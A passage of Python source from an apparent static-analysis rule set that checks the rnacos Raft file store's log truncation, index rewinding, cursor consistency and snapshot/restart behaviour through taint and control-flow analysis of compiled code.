            if xm is not x:
                def _src(p, srcs=srcs):
                    from rn.facts import pl_local, pl_proj
                    pr = pl_proj(p)
                    return pl_local(p) == 1 and bool(pr) and isinstance(pr[0], dict) and str(pr[0].get('f')) in {str(k - 1) for k in srcs}
                cands.append((xm, Taint(xm, place_src=_src)))
            else:
                cands.append((x, Taint(x, local_src=sorted(srcs))))
    ok = False
    n_ic = 0
    for (x, tp) in cands:
        ic_writes = [(bb, st) for (o, f, bb, st) in x.field_writes() if f == 'index_cursor']
        if not ic_writes:
            continue
        n_ic += len(ic_writes)
        ers = [s for s in util.sites_on_field(x, r'AsyncWriteExt::write_all$', 'index_file') if _sized_zero_fill(x, s, tp)]
        okx = bool(ers)
        for (bb, st) in ic_writes:
            if not cfg.must_pass_before_return(x, bb, {s.bb for s in ers}, returns=_ok_returns(x)):
                okx = False
            if not any(tp.op_tainted(v) for v in rv_operands(st['rv'])):     # the rewind amount is the popped width
                okx = False
        for s in ers:
            sk = [y for y in util.sites_on_field(x, r'AsyncSeekExt::seek$', 'index_file')]
            ck.require(any(cfg.dominates_blocks(x, {y.bb}, s.bb) for y in sk), 'R03a', 'strip_log_to:index-seek', s.where(),
                       'index zero fill is not preceded by a seek to the rewound index cursor')
        ok = ok or okx
    ck.floor('R03a', 'index_cursor rewind in strip_log_to', n_ic, 1)
    ck.require(ok, 'R03a', 'strip_log_to:index-erase', b.where(),
               'the popped index entries are not zeroed with a buffer sized by the popped width: stale index entries are read back as '
               'file offsets after a reopen', 'zero fill sized by popped width')
    # flushes
    fl = util.sites_on_field(b, r'AsyncWriteExt::flush$', 'data_file')
    ck.require(bool(fl) and all(util.awaited(b, s) for s in fl), 'R03a', 'strip_log_to:flush', b.where(), 'data file not flushed after truncation')


def _sized_zero_fill(b, site, taint):
    """write_all(buf) where buf = vec![0u8; n] and n depends on the given taint"""
    d = cfg.strip_calls(b, cfg.describe_operand(b, site.args[1]))
    # &buf -> deref calls -> from_elem
    seen = 0
    while d['k'] == 'call' and seen < 6:
        name = cfg.callee_name(d['term']) or ''
        if name.endswith('vec::from_elem'):
            a = d['term']['args']
            c0 = cfg.describe_operand(b, a[0])
            is_zero = c0['k'] == 'const' and str(c0['c'].get('v')) == '0'
            return is_zero and taint.op_tainted(a[1])
        if not d['term']['args']:
            return False
        d = cfg.strip_calls(b, cfg.describe_operand(b, d['term']['args'][0]))
        seen += 1
    return False


def _ok_returns(b):
    """blocks through which a success value reaches the return: blocks assigning Result::Ok to _0"""
    return util.ok_return_blocks(b) or b.return_blocks()


def r03b(ck, fb):
    ck.rule('R03b', 'rewind completeness: strip_log_to assigns every cursor field that write() advances (write-set of write minus '
                    'last_term/file_len/need_seek_at_write), and pops `indexs`')
    w = ck.main(LIM + 'write', 'R03b')
    s = ck.main(LIM + 'strip_log_to', 'R03b')
    if not (w and s):
        return
    adv = util.region_assigned_fields(fb, w, r'LogInnerManager$') - {'last_term', 'file_len', 'need_seek_at_write', 'last_flush_index'}
    ck.floor('R03b', 'cursor fields advanced by write()', len(adv), 4)
    rew = util.region_assigned_fields(fb, s, r'LogInnerManager$')
    for f in sorted(adv):
        ck.require(f in rew, 'R03b', 'strip_log_to:rewinds:' + f, s.where(),
                   'write() advances %s but strip_log_to does not reset it: the next append after a truncation continues from a stale value' % f)
    pushes = util.mut_calls_on_field(w, 'indexs', r'Vec::<T, A>::push$', deep=2)
    pops = util.mut_calls_on_field(s, 'indexs', r'Vec::<T, A>::(pop|truncate)$', deep=2)
    ck.require(bool(pushes) and bool(pops), 'R03b', 'strip_log_to:pops-indexs', s.where(), 'index entries pushed by write() are not popped by strip_log_to')
    # msg_count/data_cursor come from the recount
    t = Taint(s, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('move_to_index_by_count'))
    for (o, f, bb, st) in s.field_writes():
        if f in ('data_cursor', 'msg_count'):
            ck.require(any(t.op_tainted(x) for x in rv_operands(st['rv'])), 'R03b', 'strip_log_to:%s<-recount' % f, s.where(bb),
                       '%s is not taken from move_to_index_by_count' % f)
    # current_index_count (records since the last index entry) is measured from the index entry the recount started at: the value must be
    # derived from the get_file_index_by_log_index result / the indexs list, never from absolute log indexes (end index, start_index)
    # calls on the whole manager (self.get_end_index() ...) do not propagate: which fields they read is not visible at the call site
    ts = Taint(s, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('get_file_index_by_log_index'), place_src=field_place_src('indexs'),
               stop_calls=lambda t: 'LogInnerManager::' in ((t.get('f') or {}).get('d', '')) and not (t.get('f') or {}).get('d', '').endswith('get_file_index_by_log_index'))
    m0 = s.calls(r'LogInnerManager::move_to_index_by_count$')
    for (o, f, bb, st) in s.field_writes():
        if f == 'current_index_count':
            ok = any(ts.op_tainted(x) for x in rv_operands(st['rv']))
            ck.require(ok, 'R03b', 'strip_log_to:current_index_count<-segment-start', s.where(bb),
                       'current_index_count is not measured from the index entry found for the cut point (it is computed from absolute log indexes): '
                       'when the file does not start on a multiple of the index interval the next index entry is written at the wrong record and '
                       'read_indexs, which assumes entries exactly one interval apart, mis-places every later entry after a reopen')
    for x in m0:
        ck.require(len(x.args) >= 4 and ts.op_tainted(x.args[3]), 'R03b', 'strip_log_to:recount-from-segment-start', x.where(),
                   'the number of records to re-count is not measured from the index entry the scan starts at')
    # early exit only when nothing is to remove: end_index >= get_end_index()
    early = [i for (i, j, st) in s.aggregates(r'std::result::Result$', 'Ok') if st['d'] == 0]
    # move_to_index_by_count count argument = end_index - index.log_index
    m = s.calls(r'LogInnerManager::move_to_index_by_count$')
    ck.require(len(m) >= 1, 'R03b', 'strip_log_to:recount-call', s.where(), 'no recount through move_to_index_by_count')


def r03c(ck, fb):
    ck.rule('R03c', 'RaftLogManager::strip_log_to_index: dropping later log files from `logs` is paired with RaftIndexRequest::SaveLogs '
                    '(same rule as R02f, instance strip_log_to_index); the strip request is sent to every file whose range reaches end_index')
    b = ck.body(LM + 'strip_log_to_index', 'R03c')
    if not b:
        return
    muts = [(bb, st) for (o, f, bb, st) in b.field_writes() if f == 'logs' and o.endswith('RaftLogManager')]
    for s in b.calls(r'std::vec::Vec::<T, A>::(truncate|pop|split_off|drain|remove|clear)$'):
        if util.recv_fields(b, s)[-1:] == ['logs']:
            muts.append((s.bb, None))
    # every listed file is looked at: the loop that hands StripLogToIndex to the per-file actors has no early exit (logs is ordered oldest
    # first, so the files that must be cut come AFTER the ones that lie entirely below end_index)
    ck.rule('R03i', 'RaftLogManager::strip_log_to_index looks at every listed file: the loop that hands StripLogToIndex to the per-file actors has '
                    'no early exit (break/return) - logs is ordered oldest first and the files to cut come after those entirely below end_index')
    st = util.sends(b, r'RaftLogRequest$', 'StripLogToIndex')
    ck.require(len(st) >= 1, 'R03i', 'strip_log_to_index:sends-strip', b.where(), 'StripLogToIndex is not sent to the per-file actors')
    for (s0, m0, v0, a0) in st:
        ex = util.loop_early_exits(b, s0.bb)
        ck.require(ex is not None and not ex, 'R03i', 'strip_log_to_index:scans-every-file', s0.where(),
                   'the scan over RaftLogManager.logs stops at the first file that lies entirely below end_index (break): logs is ordered oldest first, so '
                   'with an earlier closed file still listed the file that holds end_index is never reached, nothing is removed, and the next append at '
                   'end_index is refused by the per-file index guard' if ex else 'StripLogToIndex is not sent from a loop over the listed files',
                   'no early exit')
    sv = util.sends(b, r'RaftIndexRequest$', 'SaveLogs')
    ok = all(any(cfg.dominates_blocks(b, {s.bb}, bb) or cfg.must_pass_before_return(b, bb, {s.bb}) for (s, _, _, _) in sv) for (bb, _) in muts)
    ck.require(ok, 'R03c', '%s:assign' % b.name, b.where(muts[0][0]) if muts else b.where(),
               'strip_log_to_index shrinks RaftLogManager.logs without RaftIndexRequest::SaveLogs: after a truncation that crosses a file '
               'boundary the dropped file stays in the catalogue and becomes the current log again after a restart', 'paired with SaveLogs')
    st = util.sends(b, r'raftlog::RaftLogRequest$', 'StripLogToIndex')
    ck.require(len(st) >= 1, 'R03c', 'strip_log_to_index:routes', b.where(), 'no StripLogToIndex is sent to the log file actors')
    for (s, _, _, _) in st:
        # inside the loop over logs, guarded by end_index < range end
        atoms = cfg.guard_atoms(b, s.bb)
        ok = any(a[0] == 'cmp' and a[1] in ('Lt', 'Ge', 'Gt', 'Le') for a in atoms)
        nxt = b.blocks[s.bb]['t'].get('t')
        in_loop = nxt is not None and s.bb in cfg.reach_from(b, [nxt])
        ck.require(ok and in_loop, 'R03c', 'strip_log_to_index:every-affected-file', s.where(),
                   'the strip request is not sent per log range under the range comparison')
    # acknowledgement present
    ack = [x for x in b.aggregates(r'raftlog::WriteLogResult$', 'Success')]
    ck.require(len(ack) == 1, 'R03c', 'strip_log_to_index:ack', b.where(), 'strip is not acknowledged exactly once')


def r03d(ck, fb):
    ck.rule('R03d', 'same as R02d: the index-equality guard of LogInnerManager::write (next append at k accepted, k+1 refused)')
    sub = type(ck)(ck.prop, fb, write=False)
    c02.r02d(sub, fb)
    for o in sub.obligations:
        if o[2] == 'ok':
            ck.ok('R03d', o[1], o[3], o[4])
        else:
            ck.bad('R03d', o[1], o[3], o[4])
    ck.functions |= sub.functions


def r03e(ck, fb):
    ck.rule('R03e', 'FileStore::delete_logs_from passes `start` as end_index and waits for the oneshot; LogInnerManager::handle_request '
                    'StripLogToIndex calls strip_log_to with the carried index and propagates its error')
    b = ck.main(c02.FS + 'delete_logs_from', 'R03e')
    if b:
        sd = util.sends(b, r'RaftLogManagerRequest$', 'StripLogToIndex')
        ck.require(len(sd) >= 1, 'R03e', 'delete_logs_from:send', b.where(), 'delete_logs_from does not send StripLogToIndex')
        if sd:
            a = sd[0][3]
            idx = a['fields'].index('end_index')
            d = cfg.describe_operand(b, a['ops'][idx])
            # value must come from the first parameter `start` (captured upvar 'start')
            t = Taint(b, place_src=lambda p: any(isinstance(e, dict) and e.get('f') in ('start', '1') and 'upvar' in e.get('o', '') for e in (p['p'] if not isinstance(p, int) else [])))
            names = [u['n'] for u in b.rec.get('upvars', [])]
            okv = d['k'] in ('place', 'multi', 'unknown', 'arg')
            ln = [l for l in range(len(b.locals)) if b.local_name(l) == 'start']
            tt = Taint(b, local_src=ln)
            ck.require(bool(ln) and tt.op_tainted(a['ops'][idx]), 'R03e', 'delete_logs_from:end_index=start', sd[0][0].where(),
                       'StripLogToIndex.end_index is not the `start` argument of delete_logs_from')
    h = ck.main(LIM + 'handle_request', 'R03e')
    if h:
        st = h.calls(r'LogInnerManager::strip_log_to$')
        ck.require(len(st) >= 1 and all(util.awaited(h, _x) for _x in st), 'R03e', 'handle_request:strip', h.where(), 'StripLogToIndex is not served by strip_log_to')
        if st:
            vg = util.variant_guards(h, st[0].bb)
            ck.require(any(v == 'StripLogToIndex' for (_, v) in vg), 'R03e', 'handle_request:strip-arm', st[0].where(),
                       'strip_log_to is called outside the StripLogToIndex arm (%s)' % sorted(vg))


def r03f(ck, fb):
    ck.rule('R03f', 'cursor fields are derived from current values: in LogInnerManager::{strip_log_to, write} no assignment self.G = e uses a '
                    'read of another cursor field self.F that is itself replaced later in the same call (e.g. current_index_count computed from the '
                    'pre-truncation msg_count)')
    for fn in ('strip_log_to', 'write'):
        b = ck.main(LIM + fn, 'R03f')
        if not b:
            continue
        st = util.stale_self_reads(b)
        ck.require(not st, 'R03f', '%s:no-stale-cursor-reads' % fn, b.where(st[0][2]) if st else b.where(),
                   '; '.join('self.%s is computed from self.%s as it was before self.%s is updated (line %s before line %s)' %
                             (g, f, f, b.blocks[rb]['t'].get('ln'), b.blocks[wb]['t'].get('ln')) for (g, f, rb, wb) in st[:3]) +
                   ': after a truncation the next index entry is emitted at the wrong record and the index area no longer matches the data on reopen')
    # current_index_count in strip_log_to comes from the cut position or the recount, not from a constant
    b = fb.main(LIM + 'strip_log_to') if fb.has(LIM + 'strip_log_to') else None
    if b:
        t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('get_file_index_by_log_index') or (t.get('f') or {}).get('d', '').endswith('move_to_index_by_count'))
        for (o, f, bb, stt) in b.field_writes():
            if f == 'current_index_count':
                ck.require(any(t.op_tainted(x) for x in rv_operands(stt['rv'])), 'R03f', 'strip_log_to:current_index_count<-cut', b.where(bb),
                           'current_index_count is not derived from the cut position / the recount')


def r03g(ck, fb):
    ck.rule('R03g', 'recount honours every requested count, including 0: in move_to_index_by_count the first consumption of a record '
                    '(MessageBufReader::next_message_vec) is preceded on every path by a test of the requested count (the value the loop counter is '
                    'compared with). strip_log_to asks for end_index - segment_start records, which is 0 when the cut point is the first record '
                    'of an index segment; a loop that counts first and compares afterwards never stops there and keeps the whole suffix')
    b = ck.main(LIM + 'move_to_index_by_count', 'R03g')
    if not b:
        return
    from rn.facts import op_place, pl_local, pl_proj

    def root(op, depth=0):
        pl = op_place(op)
        if pl is None or pl_proj(pl):
            return None
        l = pl_local(pl)
        ds = b.defs.get(l, [])
        if depth < 6 and len(ds) == 1 and ds[0][0] == 'stmt' and ds[0][3]['rv']['k'] == 'use':
            r = root(ds[0][3]['rv']['op'], depth + 1)
            return r if r is not None else l
        return l
    # loop counters: locals advanced by the constant 1
    counters = set()
    for (i, j, st) in b.stmts():
        rv = st.get('rv')
        if rv and rv['k'] == 'bin' and rv['op'] in ('Add', 'AddWithOverflow') and 'c' in rv['b'] and str(rv['b']['c'].get('v')) == '1':
            r = root(rv['a'])
            if r is not None:
                counters.add(r)
    # the requested count: the other side of an equality/ordering test of a counter
    wanted = set()
    for (i, j, st) in b.stmts():
        rv = st.get('rv')
        if rv and rv['k'] == 'bin' and rv['op'] in ('Eq', 'Ge', 'Gt', 'Le', 'Lt', 'Ne'):
            ra, rb = root(rv['a']), root(rv['b'])
            if ra in counters and rb is not None and rb not in counters:
                wanted.add(rb)
            if rb in counters and ra is not None and ra not in counters:
                wanted.add(ra)
    if not ck.require(len(wanted) >= 1, 'R03g', 'move_to_index_by_count:stop-test', b.where(), 'the recount loop no longer compares its counter with the requested count'):
        return
    nm = b.calls(r'MessageBufReader::next_message_vec$')
    ck.floor('R03g', 'record consumption sites', len(nm), 1)
    wdesc = set()
    for l in wanted:
        wdesc.add(cfg.fmt_desc(cfg.describe_operand(b, {'cp': {'l': l, 'p': []}})))
    for s in nm:
        ok = False
        for a in cfg.guard_atoms(b, s.bb):
            if a[0] != 'cmp':
                continue
            for side in (a[2], a[3]):
                if side.get('k') in ('arg', 'unknown', 'multi') and side.get('l') in wanted:
                    ok = True
                if cfg.fmt_desc(side) in wdesc:
                    ok = True
        ck.require(ok, 'R03g', 'move_to_index_by_count:count-tested-before-first-record', s.where(),
                   'a record is consumed before the requested count was looked at: with count == 0 (truncation exactly at the start of an index '
                   'segment, or at the first entry of the file) the counter is already 1 at the first comparison, never equals 0, and the scan runs '
                   'to the end of the data - strip_log_to keeps every entry it was asked to remove', 'requested count tested first')


def r03j(ck, fb):
    ck.rule('R03j', 'files behind the cut are dropped from the END of the list: in RaftLogManager::strip_log_to_index the number of files kept is '
                    'len() - pop_count (the bound of the slice / truncate that shrinks `logs` is computed by that subtraction), never pop_count itself: '
                    'with three files and a cut in the second, keeping `pop_count` files keeps only the oldest one')
    b = ck.body(LM + 'strip_log_to_index', 'R03j')
    if not b:
        return
    tl = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '') == 'std::vec::Vec::<T, A>::len')
    subs = [st for (i, j, st) in b.stmts() if st.get('rv', {}).get('k') == 'bin' and st['rv']['op'] in ('Sub', 'SubWithOverflow')
            and tl.op_tainted(st['rv']['a']) and isinstance(st.get('d'), int)]
    if not subs:
        # another way to say "keep the files that begin at or before the cut": a count / position taken over the ordered list by comparing each
        # range's start index with the cut point (partition_point, position, take_while, retain); R03m judges the comparison itself
        alt = [s0 for x in util.region(fb, b) for s0 in x.calls(r'::(partition_point|position|take_while|retain|rposition|binary_search_by)')]
        ck.require(bool(alt), 'R03j', 'strip_log_to_index:kept=len-pop', b.where(),
                   'the number of files to keep is neither len() - pop_count nor a position found by comparing start indexes with the cut point')
        return
    tk = Taint(b, local_src=[st['d'] for st in subs])
    n = 0
    ok = True
    for s0 in b.calls(r'Vec::<T, A>::(truncate|drain|split_off)$'):
        if util.recv_fields(b, s0)[-1:] == ['logs']:
            n += 1
            if not any(tk.op_tainted(a) for a in s0.args[1:]):
                ok = False
    for (i, j, st) in b.stmts():
        rv = st.get('rv')
        if rv and rv['k'] == 'agg' and 'Range' in str(rv.get('adt') or rv.get('def') or ''):
            n += 1
            if not any(tk.op_tainted(o) for o in rv['ops']):
                ok = False
    ck.floor('R03j', 'shrink bounds in strip_log_to_index', n, 1)
    ck.require(ok, 'R03j', 'strip_log_to_index:bound-is-kept-count', b.where(),
               'the list of log files is shrunk with a bound that is not len() - pop_count: the wrong files are kept')


def r03k(ck, fb, R='R03k'):
    ck.rule(R, 'a new log range starts on an empty file: ranges that a truncation across a file boundary drops from the list keep their files on disk '
               '(known finding R03c) and switch_new_log uses the id of such a range again; unless the dropped file is removed - where the range is '
               'dropped, or in switch_new_log before the actor opens it - the new range loads the removed entries: the next append is refused '
               '("log write index not equal") and the removed suffix is readable again, without any restart')
    sw = ck.body(LM + 'switch_new_log', R)
    if not sw:
        return
    cr = sw.calls(re.escape(LM + 'create_log_actor') + '$')
    if not ck.require(len(cr) >= 1, R, 'anchor:create_log_actor', sw.where(), 'switch_new_log no longer creates the actor of the new range'):
        return
    rm_rx = r'std::fs::remove_file|tokio::fs::remove_file|File::set_len$|OpenOptions::truncate$'
    path = Taint(sw, call_src=lambda t: bool(re.search(r'get_log_path$', (t.get('f') or {}).get('d', ''))))
    pre = [s0 for s0 in sw.calls(rm_rx) if any(path.op_tainted(a) for a in s0.args) and all(cfg.dominates_blocks(sw, [s0.bb], c.bb) for c in cr)]
    at_drop = []
    st = fb.bodies.get(LM + 'strip_log_to_index')
    if st is not None:
        for x in util.region(fb, st, 2):
            at_drop += x.calls(rm_rx)
    ck.require(bool(pre) or bool(at_drop), R, 'switch_new_log:new-range-starts-empty', cr[0].where(),
               'the file of a new range is opened as it is: two-file log, delete_logs_from(259456) (in the first file), refill until the roll-over: '
               'the range with the reused id loads the old file - the append is refused and 2689 removed term-1 entries are readable again',
               'left-over file removed before the actor opens it' if pre else 'dropped files removed where the range is dropped')


def r03l(ck, fb, R='R03l'):
    ck.rule(R, 'after a truncation the reported last term is the term of the kept last entry: LogInnerManager::strip_log_to rewinds cursor, count and '
               'index; last_term (answered by get_last_index_info and handed to the next file as its pre_term) must be assigned again on the '
               'success path, otherwise it keeps the term of a removed entry - and differs from what the same file reports after a reopen')
    b = ck.main(LIM + 'strip_log_to', R)
    if not b:
        return
    w = [(bb, stt) for x in util.region(fb, b, 1) for (o, f, bb, stt) in x.field_writes() if f == 'last_term' and o.endswith('LogInnerManager')]
    ck.require(len(w) >= 1, R, 'strip_log_to:last_term-recomputed', b.where(),
               'strip_log_to never assigns last_term: entries 1..=3 in term 1 and 4..=6 in term 2, delete_logs_from(4): get_last_log_index = (3, term 2); '
               'after a restart the same store answers (3, term 1)', 'assigned after the truncation')


def r03m(ck, fb, R='R03m'):
    ck.rule(R, 'the file whose first entry is the cut point is emptied, not dropped and not skipped: delete_logs_from(k) reaches every log file through '
               'RaftLogManager::strip_log_to_index, which drops a file from the list only if k < start_index (strictly: every comparison of the cut '
               'point with a range\'s start_index in that function reads "end_index < start_index" or its negation), and each file actor that gets '
               'StripLogToIndex(k) calls strip_log_to(k) unconditionally. With "<=" on either side the file that begins exactly at k is neither '
               'dropped nor stripped: its entries stay readable, the append at k is refused, also after a restart')
    b = ck.body(LM + 'strip_log_to_index', R)
    if b:
        n = 0
        flip = {'Lt': 'Gt', 'Gt': 'Lt', 'Le': 'Ge', 'Ge': 'Le', 'Eq': 'Eq', 'Ne': 'Ne'}
        for x in util.region(fb, b):
            for (i, j, st) in x.stmts():
                rv = st.get('rv')
                if not rv or rv['k'] != 'bin' or rv['op'] not in flip:
                    continue
                fa, fbb = cfg.origin_fields(x, rv['a'])[-1:], cfg.origin_fields(x, rv['b'])[-1:]
                da, db = cfg.fmt_desc(cfg.strip_calls(x, cfg.describe_operand(x, rv['a']))), cfg.fmt_desc(cfg.strip_calls(x, cfg.describe_operand(x, rv['b'])))

                def is_cut(d, f):
                    return 'end_index' in d or 'arg' in d and f == [] or (x.parent and f and str(f[0]).isdigit() and 'start_index' not in d)
                op = None
                if fbb == ['start_index'] and fa != ['start_index']:
                    op = rv['op']                      # cut OP start
                elif fa == ['start_index'] and fbb != ['start_index']:
                    op = flip[rv['op']]                # start OP cut  ->  cut flip(OP) start
                if op is None:
                    continue
                n += 1
                ck.require(op in ('Lt', 'Ge'), R, 'strip_log_to_index:boundary', x.where(i),
                           'the cut point is compared with a range\'s start_index as "cut %s start": the range that begins exactly at the cut point is treated '
                           'like the ranges behind it (dropped from the list with its records still in the file, or kept but never asked to strip)' % op,
                           'cut %s start' % op)
        ck.floor(R, 'comparisons of the cut point with start_index', n, 1)
    h = ck.main(RL + 'LogInnerManager::handle_request', R)
    if h:
        cs = [s0 for s0 in h.calls(re.escape(RL + 'LogInnerManager::strip_log_to') + '$')]
        ck.floor(R, 'strip_log_to calls in handle_request', len(cs), 1)
        for s0 in cs:
            extra = [cfg.fmt_atom(a) for a in cfg.guard_atoms(h, s0.bb) if a[0] in ('cmp', 'field', 'call') and not re.search(r'poll|Try>::branch|into_future', cfg.fmt_atom(a))]
            ck.require(not extra, R, 'handle_request:StripLogToIndex-always-strips', s0.where(),
                       'a file actor that is told to strip at k does so only if %s: together with the manager, which drops a file only for k < start_index, '
                       'the file that starts at k is left as it is' % extra, 'unconditional')


def r03n(ck, fb, R='R03n'):
    ck.rule(R, '"makes every entry at or above k unreadable": FileStore::delete_logs_from answers Ok only after it has handed StripLogToIndex to the log '
               'manager - every path from its entry to an Ok return passes the send (error returns are free). Whether there is anything to cut is decided '
               'where the end of the log is known exactly (strip_log_to compares with the exclusive end index); a shortcut in front of the send that '
               'compares `start` with the inclusive last index skips the cut at k = last, the one-surplus-entry case of the follower conflict path')
    b = ck.main(c02.FS + 'delete_logs_from', R)
    if not b:
        return
    sd = util.sends(b, r'RaftLogManagerRequest$', 'StripLogToIndex')
    ck.floor(R, 'StripLogToIndex sends in delete_logs_from', len(sd), 1)
    via = {x[0].bb for x in sd}
    # error exits: the `?` of an awaited call (FromResidual) and explicit Err values
    errs = {x.bb for x in b.calls(r'FromResidual.*::from_residual$')} | {i for (i, j, st) in b.aggregates(r'^std::result::Result$', 'Err')}
    r = cfg.reach_from(b, [0], blocked_blocks=via | errs, blocked_edges=cfg.flag_infeasible_edges(b, 0))
    leaks = [x for x in b.return_blocks() if x in r]
    ck.require(not leaks, R, 'delete_logs_from:ok-only-after-strip-request', b.where(leaks[0]) if leaks else b.where(),
               'delete_logs_from can answer Ok without having sent StripLogToIndex: a truncation is reported as done although nothing was cut', 'no Ok without the request')


def r03p(ck, fb, R='R03p'):
    ck.rule(R, '"the log stays readable and appendable after a truncation, whether it lives in one file or in several": a truncation whose cut point lies in '
               'an earlier file makes that file the current one again while its range keeps is_close / record_count of the time it was closed (known '
               'finding R03c: strip_log_to_index does not reset them), and the re-appended entries can carry it past that recorded end. As long as that '
               'holds, a read (query, load, replay) must not use the RECORDED END of a listed file to leave it out: in get_query_log_actors, '
               'get_load_log_actors and load_record a file is still selected when the read starts above its recorded end (start_index < recorded end '
               '< start < end; decided by walking the compiled selection test under that order). Only "the read ends at or before start_index" may '
               'exclude a file - the first index of a file never goes stale')
    LM = 'rnacos::raft::filestore::raftlog::RaftLogManager::'
    st = fb.bodies.get(LM + 'strip_log_to_index')
    resets = st is not None and any(f in ('is_close', 'record_count') for x in util.region(fb, st, 2) for (o, f, bb, s0) in x.field_writes())
    if resets:
        ck.ok(R, 'recorded-end-kept-current', st.where(), 'the truncation resets is_close / record_count of the re-opened range: the recorded end can be trusted, rule not armed')
        return
    from rn import walk
    rank = {'start_index': 0, 'range_end': 1, 'start': 2, 'end': 3}
    n = 0
    for fn in ('get_query_log_actors', 'get_load_log_actors', 'load_record'):
        b = ck.body(LM + fn, R)
        if not b:
            continue
        names = {l: b.local_name(l) for l in range(1, b.argc + 1)}

        def who(op):
            d = cfg.strip_calls(b, cfg.describe_operand(b, op))
            if d['k'] == 'arg' and names.get(d['l']) in ('start', 'end'):
                return names[d['l']]
            if d['k'] == 'call' and (cfg.callee_name(d['term']) or '').endswith('get_log_range_end_index'):
                return 'range_end'
            if d['k'] == 'place' and d['fields'][-1:] == ['start_index']:
                return 'start_index'
            return None

        class Env(dict):
            def __contains__(self, k):
                return isinstance(k, tuple) and len(k) == 3
            def __getitem__(self, k):
                op, a, c = k
                x, y = rank[a], rank[c]
                return {'Lt': x < y, 'Le': x <= y, 'Gt': x > y, 'Ge': x >= y, 'Eq': x == y, 'Ne': x != y}[op]

        def classify(d, term):
            if d['k'] == 'bin' and d['op'] in ('Lt', 'Le', 'Gt', 'Ge', 'Eq', 'Ne'):
                a, c = who(d['a']), who(d['b'])
                if a and c:
                    return ('bool', (d['op'], a, c))
            return None
        sel = [s0.bb for s0 in b.calls(r'Vec::<.*>::push$|RaftLogManager::create_log_actor$')] + \
              [s0.bb for (s0, m0, v0, a0) in util.sends(b, r'RaftLogRequest$')]
        ck.floor(R, 'selection sites in %s' % fn, len(sel), 1)
        r = walk.walker(b, classify, Env())
        n += 1
        ck.require(any(x in r for x in sel), R, '%s:recorded-end-does-not-exclude' % fn, b.where(),
                   '%s leaves a log file out of a read that starts above the file\'s RECORDED end (start_index + record_count of the time it was closed): '
                   'after a truncation into that file and shorter re-appended entries the file holds entries beyond that end - they were accepted and '
                   'acknowledged, and get_log_entries returns none of them' % fn, 'selected')
    ck.floor(R, 'read paths judged', n, 3)
