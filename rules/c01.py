"""C01 Served state survives restart: snapshot plus log replay reproduces it exactly."""
import re
from rn.facts import op_place as facts_op_place
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.facts import rv_operands, op_const

RD = 'rnacos::raft::filestore::raftdata::RaftDataHandler::'
RA = 'rnacos::raft::filestore::raftapply::'
CONST = 'rnacos::common::constant::'
FSX = '<rnacos::raft::filestore::core::FileStore as async_raft_ext::RaftStorage<rnacos::raft::store::ClientRequest, rnacos::raft::store::ClientResponse>>::'


def static_of(b, op):
    """name of the lazy_static / const an operand is derived from (through deref/clone/as_str), else None"""
    d = cfg.strip_calls(b, cfg.describe_operand(b, op))
    if d['k'] == 'const':
        c = d['c']
        ty = c.get('ty', '')
        if c.get('name'):
            return c['name'].split('::')[-1]
        m = re.search(r'rnacos::common::constant::(\w+)', ty)
        if m:
            return m.group(1)
        if 's' in c:
            return 'str:' + c['s']
    return None


def reach_under(b, decide):
    """blocks reachable from entry when switch edges are restricted by decide(bb, term) -> set(labels) | None"""
    seen = set()
    stack = [0]
    while stack:
        x = stack.pop()
        if x in seen:
            continue
        seen.add(x)
        t = b.blocks[x]['t']
        allowed = decide(x, t) if t['k'] == 'switch' else None
        for (nx, lab) in b.succ[x]:
            if allowed is not None and lab not in allowed:
                continue
            if nx not in seen:
                stack.append(nx)
    return seen


def eq_switch_info(b, bb, term):
    """if the switch tests the result of a str/String equality call, return (term_of_eq_call, negated)"""
    d = cfg.describe_operand(b, term['discr'])
    neg = False
    while d['k'] == 'un' and d['op'] == 'Not':
        neg = not neg
        d = cfg.describe_operand(b, d['a'])
    if d['k'] == 'call' and re.search(r'PartialEq.*::(eq|ne)$|::eq$|::ne$', cfg.callee_name(d['term']) or ''):
        if (cfg.callee_name(d['term']) or '').endswith('ne'):
            neg = not neg
        return d['term'], neg
    return None, None


def bool_labels(term, value):
    """edge labels of a bool switch for truth value"""
    tv = [x[0] for x in term['targets']]
    if tv == [0]:
        return {('sw', 'otherwise')} if value else {('sw', 0)}
    if tv == [1]:
        return {('sw', 1)} if value else {('sw', 'otherwise')}
    return None


def run(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "restart reproduces the served state": (a) every snapshot table a component writes is routed by '
        'RaftDataHandler::load_snapshot to the component that wrote it (exhaustive over the tree constants, evaluated by walking the '
        'comparison chain under each constant), nothing written falls into the ignore arm; (b) build_snapshot fans out to all 7 '
        'components and awaits each; (c) every file opened with create(true) is classified: a stream that is rewritten from offset 0 must '
        'be truncated, a store reopened in place must not; (d) start-up order load_index -> load_snapshot -> load_log -> load_complete; '
        '(e) persisted value codecs still carry every field they carried on the pinned tree, in both directions.')
    ck.undecided = ('Does not decide that decoding inverts encoding for every value, that replay of an arbitrary history yields equal maps, '
                    'or crash points inside a compaction.')
    r01a(ck, fb)
    r01b(ck, fb)
    r01c(ck, fb)
    r01d(ck, fb)
    r01e(ck, fb)
    r01f(ck, fb)
    from rules.c02 import r02h, r02i
    r02i(ck, fb, 'R01g')
    r02h(ck, fb, 'R01h')
    r01l(ck, fb)
    r01m(ck, fb)
    r01n(ck, fb)
    r01o(ck, fb)
    r01s(ck, fb)
    ck.borrow('rules.c02', {'R02s': 'R01u'}, 'an acknowledged write whose log record is cut by a later preallocation step is missing after the restart')
    r01t(ck, fb)
    r01w(ck, fb)
    r01y(ck, fb)
    r01z(ck, fb)
    r01aa(ck, fb)
    ck.borrow('rules.c20', {'R20h': 'R01ae', 'R20j': 'R01af', 'R20d': 'R01ag'}, 'snapshot records and log entries longer than what is left of a read chunk are completed from the next chunk: the unread bytes must be carried over completely and only the bytes that were read appended, or the record is restored from stale bytes / the rest of the file is not restored')
    ck.borrow('rules.c20', {'R20b': 'R01ad'}, 'snapshot records and log entries are framed by MessageBufReader: a length prefix decoded from bytes beyond the valid end cuts the record at the wrong place, and the start-up load treats the decode error as end of file - the rest of the snapshot is silently not restored')
    r01ac(ck, fb)
